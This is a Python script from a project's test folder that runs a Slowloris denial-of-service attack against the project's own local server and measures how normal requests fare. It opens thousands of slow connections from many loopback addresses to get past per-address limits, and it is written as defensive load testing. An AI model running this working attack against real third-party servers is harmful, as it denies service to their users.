"""Slowloris against a running `cserve serve`: N connections trickle one header byte every
few seconds (from many loopback addresses, so that the per-address cap does not stop them),
reconnecting as soon as the server cuts one, while a normal client sends one request at a
time on a new connection. Prints the normal requests' latency (p50, p99, max, failures) and
how long a trickler lived. A measurement, not a test (no assertions).

    cserve serve --model build/models/tiny --port 8000 &
    build/venv-test/bin/python tests/http/slowloris.py --port 8000 --conns 5000 --seconds 40
"""
import argparse
import resource
import selectors
import socket
import statistics
import threading
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=8000)
    ap.add_argument("--conns", type=int, default=5000)
    ap.add_argument("--addrs", type=int, default=50, help="source addresses 127.0.1.1..N")
    ap.add_argument("--interval", type=float, default=2.0, help="seconds between trickled bytes")
    ap.add_argument("--seconds", type=float, default=40)
    ap.add_argument("--warmup", type=float, default=12, help="seconds of attack before measuring")
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, a.conns + 1024), hard))

    sel = selectors.DefaultSelector()
    born = {}  # socket -> connect time
    started = set()  # sockets that sent their request line
    lives = []  # seconds from connect to the server's cut
    stop = threading.Event()
    n_open = [0]

    def open_one(i):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.bind((f"127.0.1.{1 + i % a.addrs}", 0))
            s.connect_ex((a.host, a.port))
        except OSError:
            s.close()
            return
        born[s] = time.monotonic()
        sel.register(s, selectors.EVENT_READ, i)
        n_open[0] += 1

    def attacker():
        for i in range(a.conns):
            open_one(i)
        nxt = time.monotonic()
        while not stop.is_set():
            for key, _ in sel.select(timeout=0.05):
                s = key.fileobj
                try:
                    data = s.recv(4096)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if not data:  # cut by the server: count its life, come back
                    lives.append(time.monotonic() - born.pop(s))
                    started.discard(s)
                    sel.unregister(s)
                    s.close()
                    n_open[0] -= 1
                    open_one(key.data)
            if time.monotonic() >= nxt:
                nxt += a.interval
                for s in list(born):
                    try:
                        s.send(b"a" if s in started else b"GET / HTTP/1.1\r\nX")
                        started.add(s)
                    except OSError:
                        pass

    th = threading.Thread(target=attacker, daemon=True)
    th.start()
    time.sleep(a.warmup)
    lat, fails = [], 0
    end = time.monotonic() + a.seconds
    req = b"GET /-/healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            c = socket.create_connection((a.host, a.port), timeout=30)
            c.sendall(req)
            got = b""
            while True:
                b = c.recv(4096)
                if not b:
                    break
                got += b
            c.close()
            if got.startswith(b"HTTP/1.1 200"):
                lat.append(time.monotonic() - t0)
            else:
                fails += 1
        except OSError:
            fails += 1
        time.sleep(0.05)
    stop.set()
    th.join(timeout=5)
    lat.sort()

    def pct(p):
        return lat[min(len(lat) - 1, int(p * len(lat)))] * 1e3 if lat else float("nan")

    print(f"attack: {a.conns} connections from {a.addrs} addresses, a byte every {a.interval:g} s; "
          f"open now {n_open[0]}")
    print(f"normal requests: {len(lat)} ok, {fails} failed; latency p50 {pct(0.5):.1f} ms, "
          f"p99 {pct(0.99):.1f} ms, max {(lat[-1] * 1e3 if lat else float('nan')):.1f} ms")
    if lives:
        lives.sort()
        print(f"tricklers cut: {len(lives)}; life p50 {statistics.median(lives):.2f} s, "
              f"max {lives[-1]:.2f} s")


if __name__ == "__main__":
    main()
